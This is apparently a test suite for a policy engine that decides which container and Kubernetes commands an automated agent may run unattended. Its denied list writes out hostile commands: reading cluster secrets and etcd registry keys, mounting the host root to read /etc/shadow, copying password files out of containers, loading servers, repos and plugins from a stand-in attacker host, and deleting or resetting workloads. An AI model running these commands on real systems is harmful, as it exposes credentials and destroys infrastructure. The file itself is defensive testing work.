import { assessCommand } from '../../src/policy/assessor.js';
import { ENVIRONMENTS, grammarVerdict } from '../support/grammar-family.js';

/**
 * The containers family of the read-only grammar (kubectl, helm, docker and compose, podman, crictl,
 * etcdctl, kubeadm): everyday reads run by themselves in production; writes, hidden verbs, config
 * and plugin loading, other servers and credential material never do, in any environment.
 */

const PKI =
  '--cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key';

const SAFE: string[] = [
  // kubectl
  'kubectl get pods -n payments',
  'kubectl get pods -A -o wide',
  'kubectl get deploy,sts,ds -n kube-system',
  'kubectl get po web-7d9f8 -n prod -o yaml',
  'kubectl get nodes -o wide --show-labels',
  'kubectl get pods -A --field-selector=status.phase!=Running',
  "kubectl get pods -l app=checkout -o jsonpath='{.items[*].status.containerStatuses[*].restartCount}'",
  'kubectl get events -n prod --sort-by=.lastTimestamp',
  'kubectl get ev -A --field-selector type=Warning',
  "kubectl get ingress -A -o 'custom-columns=NS:.metadata.namespace,NAME:.metadata.name'",
  'kubectl get pods -n prod -w',
  'kubectl get hpa,pdb -n prod',
  'kubectl get pvc -A',
  'kubectl get svc,ep -n prod --no-headers',
  'kubectl get nodes -L topology.kubernetes.io/zone',
  'kubectl get clusterrole system:node -o yaml',
  'kubectl get po/web-1 svc/web -n prod',
  'kubectl get crd',
  "kubectl get --raw '/readyz?verbose'",
  'kubectl get --raw /apis/metrics.k8s.io/v1beta1/nodes',
  'kubectl --context prod-eu get nodes',
  'kubectl -n=prod get deploy api -o json',
  'kubectl get pods -n prod | grep -v Running',
  'kubectl describe pod web-7d9f8 -n prod',
  'kubectl describe node ip-10-0-1-23.ec2.internal',
  'kubectl describe deploy/api -n prod --show-events=false',
  'kubectl logs web-7d9f8 -n prod --tail=200',
  'kubectl logs deploy/api -c app --since=15m --timestamps',
  'kubectl logs -p web-7d9f8 -c nginx',
  'kubectl logs -f web-7d9f8 -n prod',
  'kubectl logs -l app=web --all-containers --prefix --max-log-requests=10',
  'kubectl top pods -A --sort-by=memory',
  'kubectl top node',
  'kubectl top pod web-7d9f8 --containers -n prod',
  'kubectl rollout status deployment/api -n prod --timeout=120s',
  'kubectl rollout history deploy api -n prod',
  'kubectl api-resources --verbs=list --namespaced -o name',
  'kubectl api-resources --namespaced=false',
  'kubectl explain deployment.spec.strategy --recursive',
  'kubectl version --client -o json',
  'kubectl cluster-info',
  'kubectl config current-context',
  'kubectl config get-contexts',
  'kubectl auth can-i list pods -n prod',
  'kubectl auth can-i get secrets -n prod',
  'kubectl auth can-i --list',
  'kubectl events -n prod --for pod/web-7d9f8 --types=Warning',
  'kubectl wait --for=condition=Ready pod/web-1 -n prod --timeout=60s',
  // helm
  'helm list -A',
  'helm ls -n monitoring --failed -o json',
  'helm status prometheus -n monitoring',
  'helm history api -n prod --max 10',
  'helm get notes grafana -n monitoring',
  'helm version --short',
  'helm repo list',
  'helm search repo ingress-nginx --versions',
  // docker
  "docker ps -a --format '{{.Names}}\\t{{.Status}}'",
  'docker ps --filter status=exited -q',
  'docker logs --tail 200 -t api',
  'docker logs -f --since 10m web',
  'docker logs -n 50 web 2>&1',
  'docker stats --no-stream',
  'docker stats --no-stream --format "{{.Name}} {{.CPUPerc}}"',
  'docker images --digests',
  'docker image ls -a',
  'docker top web aux',
  'docker top web -eo pid,user,args',
  "docker version --format '{{.Server.Version}}'",
  "docker info -f '{{.Driver}}'",
  'docker events --since 1h --until 2024-05-01T12:00:00',
  'docker port web 80/tcp',
  'docker diff web',
  'docker network ls',
  'docker network inspect bridge',
  'docker volume ls -f dangling=true',
  'docker system df -v',
  'docker inspect --type image nginx:latest',
  "docker image inspect -f '{{.Os}}' redis:7",
  "docker inspect -f '{{.State.Health.Status}}' web",
  "docker inspect --format='{{json .State}}' web",
  "docker inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' web",
  "docker inspect -f '{{.RestartCount}} {{.State.StartedAt}}' web db",
  'docker container inspect -f \'{{index .Config.Labels "com.docker.compose.project"}}\' web',
  "docker inspect -f '{{json .Mounts}}' db",
  'docker container ls -a -n 5',
  'docker --version',
  'docker compose ps -a',
  'docker compose -f /srv/app/docker-compose.yml logs --tail=100 web',
  'docker compose -p shop logs -f --since 5m api',
  'docker compose ls',
  'docker-compose ps',
  'docker-compose logs -t --tail 50 worker',
  'docker service ls',
  'docker service ps api --no-trunc',
  'docker service logs --tail 100 api',
  'docker node ls',
  // podman
  'podman ps -a',
  'podman logs --tail 100 api',
  'podman stats --no-stream',
  'podman images',
  'podman top web pid user args',
  "podman inspect -f '{{.State.Status}}' web",
  // crictl
  'crictl ps -a',
  'crictl ps --name nginx -o json',
  'crictl pods --namespace kube-system',
  'crictl images',
  'crictl logs --tail 100 3f2a9c1d',
  'crictl stats',
  'crictl version',
  // etcdctl
  'etcdctl endpoint health',
  `etcdctl --endpoints=https://127.0.0.1:2379 ${PKI} endpoint health`,
  `etcdctl --endpoints=https://127.0.0.1:2379 ${PKI} endpoint status -w table`,
  `etcdctl ${PKI} member list -w table`,
  'etcdctl alarm list',
];

/**
 * Reads the grammar proves, which the rule-based harm classifier (src/policy/rules/containers.ts and
 * its unknown-program fallback) still raises to a change: checked against the grammar alone here.
 */
const GRAMMAR_READS: string[] = [
  'kubectl auth whoami -o yaml',
  'k3s kubectl get nodes',
  'microk8s kubectl get pods -A',
  'podman pod ps',
  'kubeadm certs check-expiration',
  'kubeadm alpha certs check-expiration',
  'kubeadm version -o short',
  'docker stats',
  'podman stats -a',
];

const HARMFUL: string[] = [
  // Content outside system configuration and logs (scratch, application, backup and home
  // trees) is read only with approval since the final red-team pass.
  'docker history --no-trunc nginx:1.25',
  // kubectl: secrets
  'kubectl get secrets',
  'kubectl get secrets -A',
  'kubectl get SECRETS -n prod',
  'kubectl describe secret db-credentials -n prod',
  'kubectl get secret/db -o yaml',
  'kubectl get all,secrets -n prod',
  'kubectl get secrets.v1. -o json',
  'kubectl get po/web secret/db -o yaml',
  'kubectl get sealedsecrets -A -o yaml',
  'kubectl get --raw /api/v1/secrets',
  'kubectl get --raw /api/v1/namespaces/prod/secrets',
  'kubectl config view',
  'kubectl config view --raw',
  'kubectl config view --minify --flatten',
  // kubectl: other servers, credentials, config and plugins
  'kubectl --kubeconfig=/tmp/x get po',
  'kubectl --kubeconfig /tmp/evil get pods',
  'kubectl --server https://evil.example.com get pods',
  'kubectl -s https://evil.example.com get pods',
  'kubectl --token abc get pods',
  'kubectl --as=system:admin get pods',
  'kubectl auth can-i get pods --as=system:serviceaccount:x:y',
  'kubectl -v=9 get pods',
  'kubectl get pods --v 8',
  'kubectl get pods --profile=cpu --profile-output=/tmp/p',
  'kubectl get pods -o go-template-file=/etc/shadow',
  'kubectl get pods -o jsonpath-file=/tmp/t',
  'kubectl get pods -o custom-columns-file=/tmp/c',
  'kubectl get -f https://evil.example.com/x.yaml',
  'kubectl get -k ./overlay',
  'kubectl foo',
  'kubectl plugin list',
  'kubectl kustomize ./overlay',
  // kubectl: state changes and execution, also behind value-taking options
  'kubectl exec web -- cat /etc/hostname',
  'kubectl exec -it web -- sh',
  'kubectl attach web -it',
  'kubectl delete pod web-1',
  'kubectl --request-timeout 5 delete pod x',
  'kubectl -n prod delete deploy api',
  'kubectl --context prod delete ns prod',
  'kubectl scale deploy api --replicas=0',
  'kubectl rollout restart deploy/api',
  'kubectl rollout undo deploy/api',
  'kubectl rollout pause deploy/api',
  'kubectl apply -f /tmp/x.yaml',
  'kubectl create secret generic x --from-literal=a=b',
  'kubectl patch deploy api -p {}',
  'kubectl edit deploy api',
  'kubectl drain node-1 --ignore-daemonsets',
  'kubectl cordon node-1',
  'kubectl taint nodes node-1 k=v:NoSchedule',
  'kubectl label pod web a=b',
  'kubectl annotate pod web a=b',
  'kubectl set image deploy/api app=evil:1',
  'kubectl port-forward svc/db 5432:5432',
  'kubectl proxy',
  'kubectl cp web:/etc/passwd /tmp/p',
  'kubectl debug node/node-1 -it --image=busybox',
  'kubectl run x --image=busybox',
  'kubectl cluster-info dump',
  'kubectl cluster-info dump --output-directory=/tmp/d',
  'kubectl rollout status -wf /tmp/x.yaml',
  'k3s kubectl delete pod web',
  'k3s server --cluster-reset',
  // helm
  'helm get values api -n prod',
  'helm get manifest api',
  'helm get all api',
  'helm get hooks api',
  'helm status api -o yaml',
  'helm status api --output json',
  'helm --namespace x uninstall y',
  'helm -n prod rollback api 3',
  'helm upgrade api ./chart',
  'helm install x bitnami/redis',
  'helm list --kubeconfig /tmp/k',
  'helm list --kube-token abc',
  'helm list --kube-apiserver https://evil.example.com',
  'helm env',
  'helm repo add evil https://evil.example.com',
  'helm repo update',
  'helm pull bitnami/redis',
  'helm plugin install https://evil.example.com/p',
  'helm foo',
  'helm show values bitnami/redis',
  'helm search hub redis',
  // docker
  'docker inspect web',
  'docker inspect --type container web',
  'docker container inspect web',
  'docker volume inspect nfsdata',
  "docker inspect -f '{{.Config.Env}}' web",
  "docker inspect -f '{{json .Config}}' web",
  "docker inspect -f '{{json .}}' web",
  "docker inspect -f '{{.}}' web",
  "docker inspect -f '{{with .Config}}{{.Env}}{{end}}' web",
  "docker inspect -f '{{range $k, $v := .Config}}{{$v}}{{end}}' web",
  "docker inspect -f '{{range .Mounts}}{{$.Config.Env}}{{end}}' web",
  'docker inspect -f \'{{printf "%v" .}}\' web',
  "docker inspect -f '{{.HostConfig.LogConfig.Config}}' web",
  "docker inspect -f '{{.Config.Cmd}} {{.Args}}' web",
  'docker inspect --type=container web',
  "docker container inspect -f '{{.Config.Env}}' web",
  'docker exec web cat /etc/passwd',
  'docker run --rm -v /:/host alpine cat /host/etc/shadow',
  'docker rm -f web',
  'docker --log-level debug rm -f x',
  'docker -l debug ps',
  'docker -H tcp://evil.example.com:2375 ps',
  'docker --config /tmp/evil ps',
  'docker --context evil ps',
  'docker system prune -af',
  'docker image prune -a',
  'docker stop web',
  'docker kill web',
  'docker restart web',
  'docker cp web:/etc/shadow /tmp/s',
  'docker top web e',
  'docker top web auxe',
  'docker login -u x -p y',
  'docker context use evil',
  'docker logs web > /tmp/out',
  'docker pull evil/image',
  'docker build -t x .',
  'docker compose config',
  'docker compose down',
  'docker compose up -d',
  'docker compose exec web sh',
  'docker compose -f /srv/app/.env ps',
  'docker compose --env-file /srv/app/.env ps',
  'docker-compose restart',
  'docker-compose config',
  'cat /tmp/x.yml | docker compose -f - ps',
  // podman
  'podman inspect web',
  "podman inspect -f '{{.Config.CreateCommand}}' web",
  "podman container inspect -f '{{json .Config}}' web",
  'podman exec web sh',
  'podman rm -f web',
  'podman --url ssh://root@evil.example.com/run/podman.sock ps',
  'podman --root /tmp/x ps',
  'podman healthcheck run web',
  'podman top web environ',
  'podman system reset',
  // crictl
  'crictl inspect 3f2a',
  'crictl inspectp 3f2a',
  'crictl info',
  'crictl exec -it 3f2a sh',
  'crictl rmp -a',
  'crictl -r unix:///tmp/evil.sock ps',
  'crictl --config /tmp/crictl.yaml ps',
  'crictl logs -r 3f2a',
  'crictl stopp 3f2a',
  'crictl pull evil/image',
  // etcdctl
  'etcdctl get / --prefix --keys-only',
  'etcdctl get /registry/secrets --prefix',
  'etcdctl del /registry/pods/default/web',
  'etcdctl put /registry/x y',
  'etcdctl snapshot save /tmp/snap.db',
  'etcdctl --endpoints=https://evil.example.com:2379 endpoint health',
  'etcdctl --user root:secret member list',
  'etcdctl defrag',
  'etcdctl check perf',
  'etcdctl member remove 8e9e05c52164694d',
  'etcdctl -w table endpoint hashkv',
  // kubeadm
  'kubeadm token list',
  'kubeadm reset -f',
  'kubeadm certs renew all',
  'kubeadm kubeconfig user --client-name x',
  'kubeadm --rootfs /tmp/x certs check-expiration',
];

describe('containers grammar: everyday reads run by themselves in production', () => {
  test.each(SAFE)('%s', async (command) => {
    expect({ command, kind: (await grammarVerdict(command)).kind }).toEqual({ command, kind: 'read' });
    const assessment = await assessCommand(command, 'production');
    expect({ command, decision: assessment.decision, reason: assessment.reason }).toEqual({
      command,
      decision: 'auto',
      reason: expect.any(String),
    });
  });
});

describe('containers grammar: reads proven by the grammar alone', () => {
  test.each(GRAMMAR_READS)('%s', async (command) => {
    expect({ command, kind: (await grammarVerdict(command)).kind }).toEqual({ command, kind: 'read' });
  });
});

describe('containers grammar: writes, hidden verbs, other servers and secrets never run by themselves', () => {
  test.each(HARMFUL)('%s', async (command) => {
    // Refused by the grammar itself, whatever the harm classifier adds.
    expect({ command, kind: (await grammarVerdict(command)).kind }).not.toEqual({ command, kind: 'read' });
    for (const environment of ENVIRONMENTS) {
      const assessment = await assessCommand(command, environment);
      expect({ command, environment, decision: assessment.decision }).not.toEqual(
        expect.objectContaining({ decision: expect.stringMatching(/^(auto|notify)$/) }),
      );
    }
  });
});

describe('containers grammar: the refusal names the part it did not recognise', () => {
  test.each([
    ['kubectl --kubeconfig=/tmp/x get po', /'--kubeconfig' is not an option/],
    [
      'kubectl get pods -o go-template-file=/etc/shadow',
      /go-template-file=\/etc\/shadow' is not a valid k8s-output/,
    ],
    ['kubectl foo', /'foo' is not a subcommand/],
    ['kubectl get secret/db -o yaml', /secret\/db: this kind holds credentials/],
    ['kubectl config view', /prints auth-provider tokens/],
    ['docker inspect web', /read-only only with --type/],
    ['docker top web e', /'e' is not what it expects/],
    ['helm status api -o yaml', /-o 'yaml' is not one of table/],
    ['crictl info', /registry credentials/],
    ['etcdctl --endpoints=https://evil.example.com:2379 endpoint health', /outside loopback/],
  ])('%s', async (command, reason) => {
    const assessment = await assessCommand(command, 'production');
    expect(assessment.decision).not.toBe('auto');
    expect(assessment.findings.join('\n')).toMatch(reason);
  });
});
